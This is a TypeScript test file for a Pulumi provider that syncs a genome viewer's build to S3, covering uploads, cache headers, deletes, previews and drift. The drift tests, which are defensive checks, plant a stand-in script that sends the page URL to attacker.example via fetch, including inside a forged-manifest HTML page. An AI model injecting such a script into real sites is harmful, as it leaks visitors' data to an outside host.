/**
 * The viewer's folder sync against the embedded S3 server: the first sync uploads what the viewer
 * serves of the build (servedViewer: the build made self-sufficient, the start-up files) with its
 * Content-Type and Cache-Control, a later one sends only what differs from the live objects and
 * deletes what is not served, drift included (a script replaced in the bucket is restored by the next
 * `pulumi up`, and a preview shows it), and `pulumi destroy` empties it. The provider also runs as
 * Pulumi runs it: serialized, in a plain Node process without ts-node.
 */
import * as assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { createHash } from "node:crypto";
import { cpSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DeleteObjectCommand, HeadObjectCommand, PutObjectCommand } from "@aws-sdk/client-s3";
import * as pulumi from "@pulumi/pulumi";
import {
  syncViewerFolder,
  VIEWER_SYNC_MANIFEST_KEY,
  viewerDrift,
  viewerFolderSyncProvider,
} from "../../components/viewer-folder-sync";
import { STARTUP_FILES } from "../../components/viewer/chromoscope-changes";
import { servedViewer, VIEWER_STARTUP_FOLDER } from "../../components/viewer/served-viewer";
import { PROJECT_ROOT } from "../../scripts/lib/files";
import { PRESIGNER_KEY, startTestBucket, TestBucket } from "../support/local-bucket";
import { STAND_IN_VIEWER } from "../support/stand-in-viewer";

describe("viewer folder sync (one resource, by content hashes)", function () {
  this.timeout(60_000);
  let bucket: TestBucket;
  let folder: string;
  const operations: string[] = [];
  const credentials = {
    AWS_ACCESS_KEY_ID: PRESIGNER_KEY.accessKeyId,
    AWS_SECRET_ACCESS_KEY: PRESIGNER_KEY.secretAccessKey,
  };
  const saved: Record<string, string | undefined> = {};

  beforeEach(async () => {
    operations.length = 0;
    bucket = await startTestBucket({ onRequest: (request) => operations.push(request.operation) });
    folder = mkdtempSync(join(tmpdir(), "viewer-build-"));
    cpSync(STAND_IN_VIEWER, folder, { recursive: true });
    for (const [name, value] of Object.entries(credentials)) {
      saved[name] = process.env[name];
      process.env[name] = value;
    }
  });
  afterEach(async () => {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    rmSync(folder, { recursive: true, force: true });
    await bucket.close();
  });
  const inputs = () => ({
    bucket: bucket.bucket,
    region: bucket.server.region,
    folder,
    digest: "",
    endpoint: bucket.server.endpoint,
  });
  const head = (key: string) => bucket.client.send(new HeadObjectCommand({ Bucket: bucket.bucket, Key: key }));

  it("uploads what the viewer serves under app/ (the changed page and script, the start-up files) with its Content-Type and Cache-Control, then its manifest", async () => {
    assert.equal((await syncViewerFolder(inputs())).files, 7);
    assert.deepEqual((await bucket.keys("")).sort(), [
      VIEWER_SYNC_MANIFEST_KEY,
      "app/assets/app.js",
      "app/index.html",
      ...STARTUP_FILES.map((name) => `app/startup/${name}`).sort(),
    ]);
    const served = servedViewer(folder);
    for (const file of served.files) {
      assert.deepEqual(await bucket.store.read(file.key), file.read(), `${file.key}: the served bytes`);
    }
    assert.doesNotMatch((await bucket.store.read("app/index.html")).toString(), /googletagmanager|bundle\.run/);
    assert.deepEqual(
      await bucket.store.read("app/startup/UCSC.HG38.Human.CytoBandIdeogram.csv"),
      readFileSync(join(VIEWER_STARTUP_FOLDER, "UCSC.HG38.Human.CytoBandIdeogram.csv")),
    );
    const index = await head("app/index.html");
    assert.equal(index.ContentType, "text/html; charset=utf-8");
    assert.equal(index.CacheControl, "no-cache");
    const script = await head("app/assets/app.js");
    assert.equal(script.ContentType, "text/javascript; charset=utf-8");
    assert.equal(script.CacheControl, "public, max-age=31536000, immutable");
    const bands = await head("app/startup/UCSC.HG19.Human.CytoBandIdeogram.csv");
    assert.equal(bands.ContentType, "text/csv; charset=utf-8");
    assert.equal(bands.CacheControl, "public, max-age=3600");
  });

  it("a later sync sends only the changed and new files, deletes the gone ones; destroy empties the bucket", async () => {
    await syncViewerFolder(inputs());
    writeFileSync(join(folder, "assets", "app.js"), "console.log('v2');");
    writeFileSync(join(folder, "assets", "new.css"), "body{}");
    operations.length = 0;
    await syncViewerFolder(inputs());
    assert.equal(operations.filter((operation) => operation === "PutObject").length, 3, "two files and the manifest");
    assert.equal((await bucket.store.read("app/assets/app.js")).toString(), "console.log('v2');");

    unlinkSync(join(folder, "assets", "new.css"));
    operations.length = 0;
    await syncViewerFolder(inputs());
    assert.deepEqual(operations, ["ListObjectsV2", "DeleteObjects", "PutObject"]);
    assert.ok(!(await bucket.keys("app/")).includes("app/assets/new.css"));

    await syncViewerFolder(inputs(), true);
    assert.deepEqual(await bucket.keys(""), []);
  });

  it("a preview of an unchanged build on an unchanged bucket shows no change; a changed build or bucket does", async () => {
    await syncViewerFolder(inputs());
    const digest = servedViewer(folder).digest;
    const same = await viewerFolderSyncProvider.diff!("id", { ...inputs(), digest }, { ...inputs(), digest });
    assert.equal(same.changes, false);
    const changed = await viewerFolderSyncProvider.diff!(
      "id",
      { ...inputs(), digest },
      { ...inputs(), digest: "other" },
    );
    assert.equal(changed.changes, true);
    const moved = await viewerFolderSyncProvider.diff!(
      "id",
      { ...inputs(), digest },
      { ...inputs(), digest, bucket: "other" },
    );
    assert.deepEqual(moved.replaces, ["bucket"]);
  });

  describe("drift: objects changed in the bucket behind the stack's back", () => {
    const EVIL = "fetch('https://attacker.example/?' + location.href)";
    const put = (key: string, body: string) =>
      bucket.client.send(new PutObjectCommand({ Bucket: bucket.bucket, Key: key, Body: body }));
    const unchangedBuild = async () => {
      const digest = servedViewer(folder).digest;
      return viewerFolderSyncProvider.diff!("id", { ...inputs(), digest }, { ...inputs(), digest });
    };

    it("a replaced script and an added one: the preview shows a change, the update restores the served bytes and removes the stranger", async () => {
      await syncViewerFolder(inputs());
      const original = await bucket.store.read("app/assets/app.js");
      await put("app/assets/app.js", EVIL);
      await put("app/assets/extra.js", EVIL);
      assert.equal((await unchangedBuild()).changes, true, "pulumi preview shows the drift");
      assert.deepEqual(await viewerDrift(inputs()), ["app/assets/app.js", "app/assets/extra.js"]);

      operations.length = 0;
      const result = await viewerFolderSyncProvider.update!("id", inputs(), inputs());
      assert.equal(result.outs.files, 7);
      assert.deepEqual(await bucket.store.read("app/assets/app.js"), original);
      assert.ok(!(await bucket.keys("app/")).includes("app/assets/extra.js"));
      assert.equal(
        operations.filter((operation) => operation === "PutObject").length,
        2,
        "the script and the manifest",
      );
      assert.equal((await unchangedBuild()).changes, false, "restored: the next preview is quiet");
    });

    it("compares with the live objects, not the sync's own manifest: a forged manifest changes nothing", async () => {
      await syncViewerFolder(inputs());
      const page = "<script>" + EVIL + "</script>";
      await put("app/index.html", page);
      const forged = JSON.parse((await bucket.store.read(VIEWER_SYNC_MANIFEST_KEY)).toString()) as {
        files: Record<string, { md5: string }>;
      };
      forged.files["app/index.html"].md5 = createHash("md5").update(page).digest("hex");
      await put(VIEWER_SYNC_MANIFEST_KEY, JSON.stringify(forged));
      assert.equal((await unchangedBuild()).changes, true);
      await syncViewerFolder(inputs());
      const served = servedViewer(folder).files.find((file) => file.key === "app/index.html")!;
      assert.deepEqual(await bucket.store.read("app/index.html"), served.read());
    });

    it("a deleted file is uploaded again, and objects outside app/ are left alone", async () => {
      await syncViewerFolder(inputs());
      await bucket.client.send(new DeleteObjectCommand({ Bucket: bucket.bucket, Key: "app/index.html" }));
      await put("notes/readme.txt", "not the viewer's");
      assert.deepEqual(await viewerDrift(inputs()), ["app/index.html"]);
      const result = await syncViewerFolder(inputs());
      assert.deepEqual([result.uploaded, result.replaced, result.deleted], [1, [], 0]);
      assert.ok((await bucket.keys("")).includes("notes/readme.txt"));
    });

    it("every file is stored with its MD5 as ETag (what the listing compares) and its SHA-256 in metadata", async () => {
      await syncViewerFolder(inputs());
      for (const file of servedViewer(folder).files) {
        const answer = await head(file.key);
        assert.equal(answer.ETag, `"${file.md5}"`, file.key);
        assert.equal(answer.Metadata?.sha256, file.sha256, file.key);
      }
    });
  });

  it("runs serialized, as Pulumi's provider host runs it: plain Node, no ts-node", async () => {
    const serialized = await pulumi.runtime.serializeFunction(() => viewerFolderSyncProvider, {
      isFactoryFunction: true,
    });
    const scratch = mkdtempSync(join(tmpdir(), "serialized-provider-"));
    try {
      writeFileSync(join(scratch, "provider.js"), serialized.text);
      const script = `require("./provider.js").${serialized.exportName}.create(${JSON.stringify(inputs())}).then((result) => console.log(JSON.stringify(result)))`;
      // Asynchronously: the S3 server answering the child runs in this process.
      const child = await promisify(execFile)(process.execPath, ["-e", script], {
        cwd: scratch,
        encoding: "utf8",
        env: {
          PATH: process.env.PATH,
          NODE_PATH: join(PROJECT_ROOT, "node_modules"),
          AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: "true",
          ...credentials,
        },
        timeout: 30_000,
      });
      assert.equal(JSON.parse(child.stdout).outs.files, 7);
      assert.ok((await bucket.keys("app/")).includes("app/index.html"));
      assert.ok((await bucket.keys("app/")).includes("app/startup/cohort-list.json"), "the start-up files too");
    } finally {
      rmSync(scratch, { recursive: true, force: true });
    }
  });
});
